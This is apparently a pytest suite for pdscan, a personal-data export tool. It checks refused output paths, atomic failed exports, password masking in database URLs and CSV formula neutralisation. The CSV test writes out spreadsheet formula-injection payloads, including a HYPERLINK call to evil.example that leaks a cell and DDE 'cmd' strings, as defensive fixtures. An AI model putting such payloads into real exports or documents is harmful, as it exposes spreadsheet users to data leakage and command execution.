"""What pdscan writes and prints: never over a device or a FIFO, never a spreadsheet
formula, never a password, whatever the form of the URL that carries it."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import stat
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import sqlalchemy as sa

from tests.conftest import PG_URL, ROOT
from tests.hostile.conftest import as_json, assert_absent, pdscan, unwritable_folder

SUBJECT = "elodie.martin@orange.fr"
#: the subject's values as the sample holds them: never printed by a refused command
HIDDEN = [SUBJECT, "Elodie.Martin@orange.fr", "06 12 34 56 78", "27 rue Paul Bert"]


def _copy_sample(dest: Path) -> Path:
    folder = dest / "sample_db"
    shutil.copytree(ROOT / "sample_db", folder,
                    ignore=shutil.ignore_patterns(".pdscan", "__pycache__", "*.pyc"))
    return folder


def _index(folder: Path) -> None:
    proc = pdscan("index", "-c", "pdscan.toml", cwd=folder)
    assert proc.returncode == 0, proc.stderr[-2000:]


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample, indexed, with an erasure plan for the subject (plan.json)."""
    folder = _copy_sample(tmp_path_factory.mktemp("outputs"))
    _index(folder)
    proc = pdscan("erase-plan", "--email", SUBJECT, "-c", "pdscan.toml", "--out", "plan.json",
                  cwd=folder)
    assert proc.returncode == 0, proc.stderr[-2000:]
    return folder


def error_lines(proc: subprocess.CompletedProcess[str], *names: str) -> str:
    """The error lines on stderr (``pdscan: error: ...``): exactly one, naming ``names``."""
    lines = [ln for ln in proc.stderr.splitlines() if "error:" in ln.lower()]
    assert len(lines) == 1, proc.stderr[-2000:]
    for name in names:
        assert name in lines[0], (name, lines)
    return lines[0]


# -- --out and --receipt --------------------------------------------------------------

def _char_device(tmp: Path) -> Path:
    node = tmp / "full"
    try:  # a device of our own: a regression must not replace the machine's /dev/full
        os.mknod(node, stat.S_IFCHR | 0o666, os.makedev(1, 7))
    except (PermissionError, OSError):
        pytest.skip("cannot make a device node here (needs CAP_MKNOD)")
    return node


def _fifo(tmp: Path) -> Path:
    node = tmp / "fifo"
    os.mkfifo(node)
    return node


def _directory(tmp: Path) -> Path:
    node = tmp / "adir"
    node.mkdir()
    return node


def _missing_folder(tmp: Path) -> Path:
    return tmp / "no" / "such" / "out.json"


def _unwritable_folder(tmp: Path) -> Path:
    return unwritable_folder(tmp) / "out.json"


TARGETS: dict[str, Callable[[Path], Path]] = {
    "a character device": _char_device, "a FIFO": _fifo, "a directory": _directory,
    "a path in a missing folder": _missing_folder,
    "a path in an unwritable folder": _unwritable_folder,
}


def _kind(p: Path) -> str:
    try:
        mode = p.lstat().st_mode
    except FileNotFoundError:
        return "missing"
    return ("chr" if stat.S_ISCHR(mode) else "fifo" if stat.S_ISFIFO(mode)
            else "dir" if stat.S_ISDIR(mode) else "file")


COMMANDS: dict[str, list[str]] = {
    "export": ["export", "--email", SUBJECT, "-c", "pdscan.toml", "--out"],
    "export csv": ["export", "--email", SUBJECT, "-c", "pdscan.toml", "--format", "csv",
                   "--out"],
    "erase-plan": ["erase-plan", "--email", SUBJECT, "-c", "pdscan.toml", "--out"],
    "erase receipt": ["erase", "--plan", "plan.json", "-c", "pdscan.toml", "--receipt"],
}


@pytest.mark.parametrize("target", list(TARGETS))
@pytest.mark.parametrize("command", list(COMMANDS))
def test_output_that_is_not_a_file(shop: Path, tmp_path: Path, command: str,
                                   target: str) -> None:
    """`--out` / `--receipt` naming a character device, a FIFO, a directory, or a path in
    a missing or unwritable folder. Expected: exit 2 before any work, one line naming the
    path; the node is still what it was (never replaced by a file of personal data) and
    nothing else is written beside it."""
    out = TARGETS[target](tmp_path)
    before = _kind(out)
    listing = sorted(p.name for p in out.parent.iterdir()) if out.parent.is_dir() else None
    proc = pdscan(*COMMANDS[command], str(out), cwd=shop)
    assert proc.returncode == 2, proc.stderr[-2000:]
    error_lines(proc, str(out))
    assert _kind(out) == before
    if listing is not None:
        assert sorted(p.name for p in out.parent.iterdir()) == listing
    assert_absent(HIDDEN, proc.stdout, proc.stderr)


def _bad_format(folder: Path) -> list[str]:
    return ["--format", "xml"]


def _bad_policy(folder: Path) -> list[str]:
    text = (folder / "policy.yaml").read_text(encoding="utf-8")
    head, _, _ = text.partition("\ncategories:")
    (folder / "broken.yaml").write_text(head + "\ncategories: user.contact\n", encoding="utf-8")
    return ["--policy", "broken.yaml"]


FAILURES: dict[str, Callable[[Path], list[str]]] = {
    "an unknown --format": _bad_format, "a broken policy": _bad_policy,
}


@pytest.mark.parametrize("failure", list(FAILURES))
def test_failed_export_keeps_previous_one(shop: Path, failure: str) -> None:
    """An export that fails (an unknown format, a broken policy) to the path of an earlier
    good export. Expected: exit 2 with one line; the earlier file is byte for byte what it
    was, still mode 0600."""
    out = shop / f"kept-{failure.replace(' ', '_')}.json"
    base = ["export", "--email", SUBJECT, "-c", "pdscan.toml", "--out", str(out)]
    assert pdscan(*base, cwd=shop).returncode == 0
    before = out.read_bytes()
    proc = pdscan(*base, *FAILURES[failure](shop), cwd=shop)
    assert proc.returncode == 2, proc.stderr[-2000:]
    error_lines(proc)
    assert out.read_bytes() == before
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


# -- CSV formulas ---------------------------------------------------------------------

#: column of the subject's customers row -> a value a spreadsheet would run
FORMULAS = {"first_name": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
            "last_name": "+cmd|' /C calc'!A0", "city": "@SUM(1+1)*cmd|' /C calc'!A0",
            "street": "\t=1+1", "country": "\r=1+1", "postal_code": "-2+3+cmd|' /C calc'!A0"}


def test_csv_export_neutralises_formulas(tmp_path: Path) -> None:
    """A person's text cells beginning with =, +, -, @, a tab or a carriage return,
    exported as CSV. Expected: each such cell starts with a single quote (OWASP), numbers
    (an order total of -3) stay numbers, README.txt says so; the JSON export keeps the
    values as held."""
    folder = _copy_sample(tmp_path)
    with sqlite3.connect(folder / "shop.db") as con:
        cid = con.execute("SELECT id FROM customers WHERE lower(email) = ?",
                          (SUBJECT,)).fetchone()[0]
        sets = ", ".join(f"{c} = ?" for c in FORMULAS)
        con.execute(f"UPDATE customers SET {sets} WHERE id = ?", (*FORMULAS.values(), cid))
        con.execute("UPDATE orders SET total_cents = -3 WHERE customer_id = ?", (cid,))
    con.close()
    _index(folder)
    proc = pdscan("export", "--email", SUBJECT, "-c", "pdscan.toml", "--format", "csv",
                  "--out", "pkg.zip", cwd=folder)
    assert proc.returncode == 0, proc.stderr[-2000:]
    with zipfile.ZipFile(folder / "pkg.zip") as z:
        def rows(name: str) -> list[dict[str, str]]:
            text = z.read(name).decode("utf-8")
            return list(csv.DictReader(io.StringIO(text, newline="")))
        customers = rows("customers.csv")
        orders = rows("orders.csv")
        readme = z.read("README.txt").decode("utf-8")
    assert len(customers) == 1
    for column, value in FORMULAS.items():
        assert customers[0][column] == "'" + value, column
    assert orders and all(o["total_cents"] == "-3" for o in orders)
    assert "single quote" in readme and "formula" in readme
    proc = pdscan("export", "--email", SUBJECT, "-c", "pdscan.toml", "--out", "pkg.json",
                  cwd=folder)
    assert proc.returncode == 0, proc.stderr[-2000:]
    doc = json.loads((folder / "pkg.json").read_text(encoding="utf-8"))
    (record,) = doc["data"]["shop"]["main.customers"]["records"]
    assert record["fields"]["first_name"]["value"] == FORMULAS["first_name"]


# -- passwords in URLs ----------------------------------------------------------------

SECRET = "S3cr3t-pw"
PG_NODB = "postgresql://postgres{auth}@127.0.0.1:5432/pdscan_no_such_db{query}"
URL_FORMS = {
    "PostgreSQL userinfo": PG_NODB.format(auth=f":{SECRET}", query=""),
    "PostgreSQL ?password=": PG_NODB.format(auth="", query=f"?password={SECRET}"),
    "PostgreSQL &password=": PG_NODB.format(auth="", query=f"?sslmode=disable&password={SECRET}"),
    "PostgreSQL ?PassWord= (any case)": PG_NODB.format(auth="", query=f"?PassWord={SECRET}"),
    "PostgreSQL userinfo and ?sslpassword=": PG_NODB.format(
        auth=f":{SECRET}", query=f"?sslpassword={SECRET}x"),
    "PostgreSQL ?client_secret=": PG_NODB.format(auth="", query=f"?client_secret={SECRET}"),
    "PostgreSQL ?auth_token=": PG_NODB.format(auth="", query=f"?auth_token={SECRET}"),
    "MariaDB userinfo": f"mysql://root:{SECRET}@127.0.0.1:3306/pdscan_no_such_db",
    "MariaDB ?passwd=": f"mysql://root@127.0.0.1:3306/pdscan_no_such_db?passwd={SECRET}",
    "Redis userinfo": f"redis://:{SECRET}@127.0.0.1:6379/0",
    "Redis ?pwd=": f"redis://127.0.0.1:6379/0?pwd={SECRET}",
}


@pytest.mark.parametrize("form", list(URL_FORMS))
def test_password_masked_in_url(form: str) -> None:
    """A source URL carrying a password in its userinfo or its query (password, passwd,
    pwd, any key holding "password", "secret" or "token", any case), on a source that
    fails. Expected: the password appears nowhere (JSON `sources` and `errors`, stderr,
    the table); the source is still named, with `***` in its place."""
    url = URL_FORMS[form]
    proc = pdscan("scan", url, "--format", "json")
    assert_absent([SECRET], proc.stdout, proc.stderr)
    doc = as_json(proc)
    assert doc["sources"] and all("***" in s for s in doc["sources"])
    assert all("***" in e["source"] for e in doc["errors"])
    table = pdscan("scan", url)
    assert_absent([SECRET], table.stdout, table.stderr)


def test_index_identity_drops_query_password(pg_schema: tuple[str, str],
                                             tmp_path: Path) -> None:
    """A PostgreSQL source configured with `?password=` in its URL, indexed. Expected:
    the source identity kept in the index (and everything printed) holds no password."""
    url, schema = pg_schema
    eng = sa.create_engine(url.replace("postgresql://", "postgresql+psycopg://", 1))
    with eng.begin() as c:
        c.execute(sa.text(f'CREATE TABLE "{schema}".people (id int PRIMARY KEY, email text)'))
        c.execute(sa.text(f'INSERT INTO "{schema}".people VALUES (1, \'ann@example.org\'), '
                          f'(2, \'bob@example.org\')'))
    eng.dispose()
    sep = "&" if "?" in url else "?"
    (tmp_path / "pdscan.toml").write_text(
        f'[sources.crm]\nurl = "{url}{sep}password={SECRET}"\nschemas = ["{schema}"]\n',
        encoding="utf-8")
    proc = pdscan("index", "-c", "pdscan.toml", "--format", "json", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert_absent([SECRET], proc.stdout, proc.stderr)
    with sqlite3.connect(tmp_path / ".pdscan" / "index.db") as con:
        identities = [r[0] for r in con.execute("SELECT identity FROM sources")]
    con.close()
    assert identities and all(SECRET not in i and "password" not in i for i in identities)
    assert PG_URL.rsplit("/", 1)[1] in identities[0]
